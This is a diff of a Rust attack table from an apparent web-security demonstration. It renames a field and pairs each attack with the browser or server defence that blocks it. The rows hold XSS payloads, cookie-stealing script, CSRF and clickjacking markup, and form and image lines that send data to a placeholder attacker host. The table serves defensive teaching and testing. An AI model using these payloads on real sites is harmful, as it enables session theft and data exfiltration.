@@ -11,16 +11,16 @@ pub(crate) struct Attack {
     pub(crate) tries: &'static str,
     pub(crate) kind: Kind,
     /// What the browser or the server does, in a sentence.
-    pub(crate) refusal: &'static str,
+    pub(crate) outcome: &'static str,
     pub(crate) stops: &'static [Stop],
 }
 
 /// How the attack is carried out.
 #[derive(Debug)]
 pub(crate) enum Kind {
-    /// Markup that a faulty page prints without escaping. `{attacker}` is the attacker's origin.
+    /// Markup that a vulnerable page prints without escaping. `{attacker}` is the attacker's origin.
     Markup { markup: &'static str, hint: &'static str },
-    /// Markup that a faulty script of the page writes into it.
+    /// Markup that a vulnerable script of the page writes into it.
     Sink { markup: &'static str },
     /// Markup that steals the cookies; the page's own script reads them too, and shows what it sees.
     Cookies { markup: &'static str },
@@ -105,7 +105,7 @@ impl Attack {
     }
 }
 
-/// A row for each attack. How it is refused, and how it works without protection, is in `tests/browser/site.mjs`.
+/// A row for each attack. How it is blocked, and how it works without protection, is in `tests/browser/site.mjs`.
 pub(crate) const ATTACKS: &[Attack] = &[
     Attack {
         name: "script",
@@ -115,7 +115,7 @@ pub(crate) const ATTACKS: &[Attack] = &[
             markup: r##"<script>document.querySelector("#proof").textContent = "The injected script ran."</script>"##,
             hint: "",
         },
-        refusal: "The script has no nonce, so the browser does not run it.",
+        outcome: "The script has no nonce, so the browser does not run it.",
         stops: &[Stop::Directive("script-src")],
     },
     Attack {
@@ -126,7 +126,7 @@ pub(crate) const ATTACKS: &[Attack] = &[
             markup: r#"<svg onload="document.querySelector('#proof').textContent = 'The event handler ran.'"></svg>"#,
             hint: "",
         },
-        refusal: "An attribute cannot carry a nonce, so no inline event handler runs.",
+        outcome: "An attribute cannot carry a nonce, so no inline event handler runs.",
         stops: &[Stop::Directive("script-src")],
     },
     Attack {
@@ -137,17 +137,17 @@ pub(crate) const ATTACKS: &[Attack] = &[
             markup: r#"<a href="javascript:void(document.querySelector('#proof').textContent = 'The link ran code.')">My website</a>"#,
             hint: "Click the link.",
         },
-        refusal: "The browser follows no `javascript:` URL. Where the site prints the link with `Href`, it is not in the page at all.",
+        outcome: "The browser follows no `javascript:` URL. Where the site prints the link with `Href`, it is not in the page at all.",
         stops: &[Stop::Directive("script-src"), Stop::Code(r#"<a href="{{ website|href }}">"#)],
     },
     Attack {
         name: "dom",
         title: "Write HTML with the page's own script",
-        tries: "A trusted script of the page has a fault: it assigns a text of the visitor to `innerHTML`.",
+        tries: "A trusted script of the page is vulnerable: it assigns a text of the visitor to `innerHTML`.",
         kind: Kind::Sink {
             markup: r#"<img src="data:," onerror="document.querySelector('#proof').textContent = 'The written HTML ran code.'">"#,
         },
-        refusal: "The assignment throws an error: `innerHTML` accepts no string on this site.",
+        outcome: "The assignment throws an error: `innerHTML` accepts no string on this site.",
         stops: &[Stop::Directive("require-trusted-types-for"), Stop::Directive("trusted-types")],
     },
     Attack {
@@ -155,7 +155,7 @@ pub(crate) const ATTACKS: &[Attack] = &[
         title: "Redirect every relative URL",
         tries: "An injected `base` element makes relative links, forms and scripts of the page lead to the attacker.",
         kind: Kind::Markup { markup: r#"<base href="{attacker}/">"#, hint: "" },
-        refusal: "The browser ignores the element, and relative URLs still lead to this site.",
+        outcome: "The browser ignores the element, and relative URLs still lead to this site.",
         stops: &[Stop::Directive("base-uri")],
     },
     Attack {
@@ -166,7 +166,7 @@ pub(crate) const ATTACKS: &[Attack] = &[
             markup: r#"<form method="post" action="{attacker}/stolen"><label>Your session has expired. Enter your code <input name="code" value="123456" autocomplete="off"></label> <button>Continue</button></form>"#,
             hint: "Press the button.",
         },
-        refusal: "The browser does not send the form.",
+        outcome: "The browser does not send the form.",
         stops: &[Stop::Directive("form-action")],
     },
     Attack {
@@ -177,7 +177,7 @@ pub(crate) const ATTACKS: &[Attack] = &[
             markup: r#"<img src="{attacker}/pixel?balance=1234" alt="an image of the attacker" width="360" height="48">"#,
             hint: "",
         },
-        refusal: "The browser does not send the request.",
+        outcome: "The browser does not send the request.",
         stops: &[Stop::Directive("img-src")],
     },
     Attack {
@@ -188,7 +188,7 @@ pub(crate) const ATTACKS: &[Attack] = &[
             markup: r#"<div style="position: fixed; inset: 0; z-index: 9; padding: 20vh 2rem; background: #7a1f1f; color: #fff; font-size: 1.5rem">This covers the whole page. Go back with your browser.</div>"#,
             hint: "",
         },
-        refusal: "The browser ignores the attribute, and the element stays a line of text.",
+        outcome: "The browser ignores the attribute, and the element stays a line of text.",
         stops: &[Stop::Directive("style-src")],
     },
     Attack {
@@ -198,7 +198,7 @@ pub(crate) const ATTACKS: &[Attack] = &[
         kind: Kind::Cookies {
             markup: r##"<script>document.querySelector("#proof").textContent = "Stolen: " + document.cookie</script>"##,
         },
-        refusal: "The script does not run, and even the page's own script cannot read the cookie.",
+        outcome: "The script does not run, and even the page's own script cannot read the cookie.",
         stops: &[Stop::Cookie("HttpOnly"), Stop::Directive("script-src")],
     },
     Attack {
@@ -206,7 +206,7 @@ pub(crate) const ATTACKS: &[Attack] = &[
         title: "Frame the page",
         tries: "The attacker shows this site in an invisible frame, and makes visitors click its buttons (clickjacking).",
         kind: Kind::FromAttacker { code: r#"<iframe src="{site}/login"></iframe>"# },
-        refusal: "The browser shows an empty frame. The server, which is told that the request is for a frame of another site, rejects it too.",
+        outcome: "The browser shows an empty frame. The server, which is told that the request is for a frame of another site, rejects it too.",
         stops: &[
             Stop::Directive("frame-ancestors"),
             Stop::Header("x-frame-options"),
@@ -220,7 +220,7 @@ pub(crate) const ATTACKS: &[Attack] = &[
         kind: Kind::FromAttacker {
             code: r#"<form method="post" action="{site}/greet"><input type="hidden" name="name" value="Mallory"></form>"#,
         },
-        refusal: "The browser tells the server where the request comes from, and the server rejects it with status 403.",
+        outcome: "The browser tells the server where the request comes from, and the server rejects it with status 403.",
         stops: &[Stop::Request("sec-fetch-site: cross-site"), Stop::Cookie("SameSite=Lax")],
     },
     Attack {
@@ -230,7 +230,7 @@ pub(crate) const ATTACKS: &[Attack] = &[
         kind: Kind::FromAttacker {
             code: r#"<script>fetch("{site}/api/reports", { credentials: "include" })</script> <img src="{site}/static/logo.svg">"#,
         },
-        refusal: "The server rejects both requests, and the browser would show the attacker neither answer.",
+        outcome: "The server rejects both requests, and the browser would show the attacker neither answer.",
         stops: &[Stop::Request("sec-fetch-site: cross-site"), Stop::Header("cross-origin-resource-policy")],
     },
     Attack {
@@ -238,7 +238,7 @@ pub(crate) const ATTACKS: &[Attack] = &[
         title: "Take over the tab that opened a link",
         tries: "A link opens the attacker's page in a new tab. That page replaces the tab behind it with a copy of the login form.",
         kind: Kind::Opener { code: r#"<script>opener.location = "{attacker}/phishing"</script>"# },
-        refusal: "The new tab has no reference to the one that opened it.",
+        outcome: "The new tab has no reference to the one that opened it.",
         stops: &[Stop::Header("cross-origin-opener-policy")],
     },
     Attack {
@@ -250,7 +250,7 @@ pub(crate) const ATTACKS: &[Attack] = &[
             code: UPLOADED,
             hint: "The browser saves the file, and does not open it.",
         },
-        refusal: "The browser saves the file. It is not displayed, guessed to be HTML, or run.",
+        outcome: "The browser saves the file. It is not displayed, guessed to be HTML, or run.",
         stops: &[
             Stop::File("content-disposition"),
             Stop::File("content-type"),
@@ -267,7 +267,7 @@ pub(crate) const ATTACKS: &[Attack] = &[
             code: r#"<a href="{site}/continue?to={attacker}/phishing">"#,
             hint: "The site does not redirect to another origin.",
         },
-        refusal: "The server sends no redirect: the target is not a path of this site.",
+        outcome: "The server sends no redirect: the target is not a path of this site.",
         stops: &[Stop::Code("RedirectTarget::parse(&to)?")],
     },
 ];
